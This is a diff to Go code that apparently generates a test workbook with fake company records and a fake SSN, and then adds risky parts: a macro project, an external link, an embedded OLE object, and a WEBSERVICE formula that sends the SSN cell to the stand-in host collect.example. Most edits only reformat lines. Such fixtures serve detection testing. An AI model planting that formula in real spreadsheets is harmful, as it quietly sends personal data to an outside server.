@@ -48,7 +48,8 @@ func Office() []byte {
 	must(f.MergeCell(s, "A1", "H1"))
 	must(f.SetCellValue(s, "A2", "Prepared by Ana, see <notes>"))
 	must(f.SetRowHeight(s, 1, 30))
-	headers := []any{"Company ID", "Legal Name", "User Email", "Filing State", "Filing Year", "Fee", "Since", "Owner SSN"}
+	headers := []any{"Company ID", "Legal Name", "User Email", "Filing State", "Filing Year", "Fee", "Since",
+		"Owner SSN"}
 	must(f.SetSheetRow(s, "A4", &headers))
 	must(f.SetCellStyle(s, "A4", "H4", head))
 	for i := range OfficeRows {
@@ -63,18 +64,19 @@ func Office() []byte {
 		}
 		name := []string{"Acme", "Bluebird", "Cedar", "Delta", "Ember", "Fjord"}[i%6]
 		values := []any{"comp_" + strings.ToLower(name) + string(rune('a'+i)), name + " & Sons LLC",
-			"owner@" + strings.ToLower(name) + ".example", []string{"DE", "NY", "CA"}[i%3], 2026, 50.5 + float64(i), 45000 + i}
+			"owner@" + strings.ToLower(name) + ".example", []string{"DE", "NY", "CA"}[i%3], 2026, 50.5 + float64(i),
+			45000 + i}
 		must(f.SetSheetRow(s, cell(1), &values))
 		must(f.SetCellStyle(s, cell(6), cell(6), fee))
 		must(f.SetCellStyle(s, cell(7), cell(7), date))
 		must(f.SetCellStyle(s, cell(2), cell(2), yellow))
-		if i == 2 {
+		switch i {
+		case 2:
 			must(f.SetCellValue(s, cell(8), SSN))
-		} else if i == 3 {
+		case 3:
 			must(f.SetCellValue(s, cell(8), 519473862))
 		}
 	}
-	last := OfficeHeader + 1 + OfficeRows
 	must(f.SetCellFormula(s, "F20", "SUM(F5:F17)"))
 	must(f.SetCellValue(s, "E20", "Total"))
 	must(f.AddComment(s, excelize.Comment{Cell: "B6", Author: "Ana", Paragraph: []excelize.RichTextRun{
@@ -83,7 +85,13 @@ func Office() []byte {
 		{Text: "& Sons LLC", Font: &excelize.Font{Italic: true}}}))
 	must(f.SetColWidth(s, "B", "B", 34))
 	must(f.SetColWidth(s, "H", "Z", 14))
-	must(f.SetPanes(s, &excelize.Panes{Freeze: true, XSplit: 2, YSplit: OfficeHeader, TopLeftCell: "C5", ActivePane: "bottomRight"}))
+	must(f.SetPanes(s, &excelize.Panes{
+		Freeze:      true,
+		XSplit:      2,
+		YSplit:      OfficeHeader,
+		TopLeftCell: "C5",
+		ActivePane:  "bottomRight",
+	}))
 	drop := excelize.NewDataValidation(true)
 	drop.Sqref = "D5:D100"
 	must(drop.SetDropList([]string{"DE", "NY", "CA"}))
@@ -114,7 +122,6 @@ func Office() []byte {
 	f.SetActiveSheet(0)
 	var out bytes.Buffer
 	must(f.Write(&out))
-	_ = last
 	return withPrograms(out.Bytes())
 }
 
@@ -135,25 +142,36 @@ func withPrograms(data []byte) []byte {
 		switch part.Name {
 		case Types:
 			text = strings.Replace(text, "spreadsheetml.sheet.main+xml", "ms-excel.sheet.macroEnabled.main+xml", 1)
-			text = strings.Replace(text, "application/vnd.openxmlformats-officedocument.ms-excel", "application/vnd.ms-excel", 1)
-			text = insert(text, "</Types>", `<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>`+
-				`<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/`+
-				`vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>`)
+			text = strings.Replace(text, "application/vnd.openxmlformats-officedocument.ms-excel",
+				"application/vnd.ms-excel", 1)
+			text = insert(text, "</Types>",
+				`<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>`+
+					`<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/`+
+					`vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>`)
 		case Rels:
 			text = insert(text, "</Relationships>",
-				`<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`+
-					`<Relationship Id="rIdExt" Type="`+rel+`/externalLink" Target="externalLinks/externalLink1.xml"/>`)
+				`<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaP`+
+					`roject" `+
+					`Target="vbaProject.bin"/>`+
+					`<Relationship Id="rIdExt" Type="`+rel+`/externalLink" Target="externalLinks/externalLink1.`+
+					`xml"/>`)
 		case Book:
-			text = strings.Replace(text, "</sheets>", `</sheets><externalReferences><externalReference xmlns:r="`+rel+
+			text = strings.Replace(text, "</sheets>", `</sheets><externalReferences><externalReference `+
+				`xmlns:r="`+rel+
 				`" r:id="rIdExt"/></externalReferences>`, 1)
-			text = strings.Replace(text, "</definedNames>", `<definedName name="Rates">[1]Rates!$A$1:$B$9</definedName></definedNames>`, 1)
+			text = strings.Replace(text, "</definedNames>",
+				`<definedName name="Rates">[1]Rates!$A$1:$B$9</definedName></definedNames>`, 1)
 		case Sheet:
-			text = strings.Replace(text, "</sheetData>", `<row r="22"><c r="A22"><f>[1]Rates!$A$1*2</f><v>41.5</v></c>`+
-				`<c r="B22" t="str"><f>WEBSERVICE("https://collect.example/?q="&amp;H7)</f><v>last answer</v></c></row></sheetData>`, 1)
+			text = strings.Replace(text, "</sheetData>", `<row r="22"><c r="A22"><f>[1]Rates!$A$1*2</f><`+
+				`v>41.5</v></c>`+
+				`<c r="B22" t="str"><f>WEBSERVICE("https://collect.example/?q="&amp;H7)</f><v>last answer<`+
+				`/v></c></row><`+
+				`/sheetData>`, 1)
 			text = insert(text, "</worksheet>", `<oleObjects><oleObject progId="Package" shapeId="1" xmlns:r="`+rel+
 				`" r:id="rIdOle"/></oleObjects>`)
 		case "xl/worksheets/_rels/sheet1.xml.rels":
-			text = insert(text, "</Relationships>", `<Relationship Id="rIdOle" Type="`+rel+`/oleObject" Target="../embeddings/oleObject1.bin"/>`)
+			text = insert(text, "</Relationships>",
+				`<Relationship Id="rIdOle" Type="`+rel+`/oleObject" Target="../embeddings/oleObject1.bin"/>`)
 		}
 		to, err := w.Create(part.Name)
 		must(err)
